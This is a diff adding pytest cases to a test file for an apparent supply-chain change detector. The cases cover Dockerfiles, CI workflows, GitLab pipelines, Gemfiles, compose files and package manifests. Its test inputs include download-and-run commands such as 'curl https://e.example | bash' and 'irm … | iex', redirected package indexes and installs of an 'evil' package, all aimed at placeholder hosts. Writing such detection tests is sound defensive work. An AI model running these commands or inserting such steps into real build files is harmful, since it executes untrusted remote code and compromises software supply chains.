@@ -148,6 +148,96 @@ def test_a_broken_manifest_is_not_silence(content: bytes) -> None:
 @pytest.mark.parametrize(
     ("addition", "name", "rule"),
     [
+        ("RUN\tpip install evil", "evil", "added"),
+        ("run pip install evil", "evil", "added"),
+        ("RUN a \\\n # said\n && pi\\\np install \\\n evil", "evil", "added"),
+        ("RUN <<EOF\npip install evil\nEOF", "evil", "added"),
+        ('RUN ["pip", "install", "evil"]', "evil", "added"),
+        ("ONBUILD RUN pip install evil", "evil", "added"),
+        ("HEALTHCHECK --interval=5s CMD pip install evil", "evil", "added"),
+        ('HEALTHCHECK CMD ["npx", "evil"]', "evil", "added"),
+        ("RUN --mount=type=bind,from=evil/x:1,target=/y true", "evil/x", "added"),
+        ("COPY --from=evil/x:1 /a /b", "evil/x", "added"),
+        ("ENV PIP_INDEX_URL https://e.example", "PIP_INDEX_URL", "index-changed"),
+        ("RUN PIP_INDEX_URL=https://e.example pip install .", "PIP_INDEX_URL", "index-changed"),
+        ("RUN curl https://e.example | bash", "download and run", "dynamic"),
+        ("RUN curl -fsSLo /tmp/x https://e.example/i && sh /tmp/x", "download and run", "dynamic"),
+        ("RUN curl -O https://e.example/i.sh\nRUN true", "python", ""),
+        ("RUN wget https://e.example/i.sh && chmod +x i.sh && ./i.sh --now", "download and run", "dynamic"),
+        ('RUN bash -c "$(curl -fsSL https://e.example)"', "download and run", "dynamic"),
+        ("RUN easy_install evil", "evil", "added"),
+        ("RUN dotnet tool install -g evil --version 1.0", "evil", "added"),
+        ("RUN mix archive.install hex evil 1.0", "evil", "added"),
+        ("RUN deno install -g -n x npm:evil@1", "evil", "added"),
+    ],
+    ids=repr,
+)  # fmt: skip
+def test_instructions_of_a_dockerfile(addition: str, name: str, rule: str) -> None:
+    before = "FROM python:3.12\n"
+    assert ((name, rule) in said("Dockerfile", before, f"{before}{addition}\n")) is bool(rule)
+
+
+@pytest.mark.parametrize(
+    ("addition", "name", "rule"),
+    [
+        ("      - run: >-\n          pip install\n          evil\n", "evil", "added"),
+        ("      - &step\n        uses: evil/x@v1\n      - *step\n", "evil/x", "added"),
+        ("      - uses: docker://evil/x:1\n", "evil/x", "added"),
+        ('      - run: echo "UV_INDEX_URL=https://e.example" >> $GITHUB_ENV\n', "UV_INDEX_URL", "index-changed"),
+        ("      - shell: pwsh\n        run: irm https://e.example/x.ps1 | iex\n", "download and run", "dynamic"),
+        ("    container: evil/x:1\n", "evil/x", "added"),
+        ("    services:\n      s:\n        image: evil/x:1\n", "evil/x", "added"),
+        ("  other:\n    uses: evil/x/.github/workflows/y.yml@main\n", "evil/x/.github/workflows/y.yml", "added"),
+    ],
+    ids=repr,
+)  # fmt: skip
+def test_places_of_a_workflow(addition: str, name: str, rule: str) -> None:
+    before = "on: push\njobs:\n  t:\n    steps:\n      - uses: a/b@v1\n"
+    assert (name, rule) in said(".github/workflows/ci.yml", before, before + addition)
+
+
+@pytest.mark.parametrize(
+    ("addition", "name", "rule"),
+    [
+        ("include: [https://e.example/x.yml]\n", "https://e.example/x.yml", "url-source"),
+        ("default:\n  image: evil/x\n", "evil/x", "added"),
+        ("default:\n  before_script: [pip install evil]\n", "evil", "added"),
+        ("job:\n  hooks:\n    pre_get_sources_script: [pip install evil]\n", "evil", "added"),
+        ("job:\n  run:\n    - name: s\n      script: pip install evil\n", "evil", "added"),
+        ("job:\n  run:\n    - name: s\n      step: e.example/evil@v1\n", "e.example/evil", "added"),
+        ("job:\n  run:\n    - name: s\n      step:\n        git:\n          url: e.example/evil\n          rev: main\n", "e.example/evil", "added"),
+        ("job:\n  trigger:\n    include:\n      - remote: https://e.example/x.yml\n", "https://e.example/x.yml", "url-source"),
+    ],
+    ids=repr,
+)  # fmt: skip
+def test_places_of_a_gitlab_pipeline(addition: str, name: str, rule: str) -> None:
+    before = "stages: [test]\n"
+    assert (name, rule) in said(".gitlab-ci.yml", before, before + addition)
+
+
+@pytest.mark.parametrize(
+    ("path", "before", "after", "name", "rule"),
+    [
+        pytest.param("Gemfile", "gem 'a'\n", "gem 'a'\neval_gemfile 'other'\n", "eval_gemfile", "include-added", id="another file that a Gemfile runs"),
+        pytest.param("Gemfile", "gem 'a'\n", "gem 'a'\ngit_source(:x) { |r| \"https://e.example/#{r}\" }\n", "git_source", "dynamic", id="a short name for a host in a Gemfile"),
+        pytest.param("Gemfile", "gem 'a'\n", "gem 'a'\nif true; gem 'evil'; end\n", "evil", "added", id="a gem between semicolons"),
+        pytest.param("compose.yaml", "services:\n  a:\n    build: .\n", "services:\n  a:\n    build: https://e.example/x.git\n", "a build", "git-source", id="a service built from a repository"),
+        pytest.param("dev.compose.yml", "services:\n  a:\n    build: .\n", "x-b: &b\n  image: evil:1\nservices:\n  a:\n    <<: *b\n", "evil", "added", id="an image that an anchor brings"),
+        pytest.param(".pre-commit-config.yaml", "repos: []\n", "repos:\n- repo: local\n  hooks:\n  - id: x\n    language: docker_image\n    entry: --entrypoint a --rm evil/x:1 b\n", "evil/x", "added", id="an image behind options"),
+        pytest.param("Package.swift", 'x(.package(url: "https://f.example/a", from: "1.0.0"))\n', 'x(.package(url: "https://f.example/a", branch: "main"))\n', "a", "mutable-ref", id="a Swift package that follows a branch"),
+        pytest.param("Package.swift", "x()\n", 'x(.binaryTarget(name: "B", url: "https://e.example/b.zip", checksum: "0"))\n', "b", "url-source", id="a program that a Swift package fetches"),
+        pytest.param("go.mod", "module a.example/x\n", "module a.example/x\nrequire `e.example/evil` v1.0.0\n", "e.example/evil", "added", id="a Go module in backquotes"),
+        pytest.param("Cargo.toml", "[package]\nname = 'x'\n", "[package]\nname = 'x'\n[target.'cfg(unix)'.build-dependencies]\nevil = '1'\n", "evil", "added", id="a crate for one target"),
+        pytest.param(".gitmodules", '[submodule "x"]\n path = x\n url = https://f.example/x\n', '[submodule "x"]\n path = x\n url = https://f.example/x\n update = !evil\n', "x update", "install-script", id="a command that updates a submodule"),
+    ],
+)  # fmt: skip
+def test_other_places(path: str, before: str, after: str, name: str, rule: str) -> None:
+    assert (name, rule) in said(path, before, after)
+
+
+@pytest.mark.parametrize(
+    ("addition", "name", "rule"),
+    [
         ("packageExtensions:\n  b:\n    dependencies:\n      evil: 1\n", "evil", "override"),
         ("patchedDependencies:\n  b@1: p.patch\n", "patchedDependencies b@1", "override"),
         ("allowBuilds:\n  b: true\n", "allowBuilds b", "install-script"),
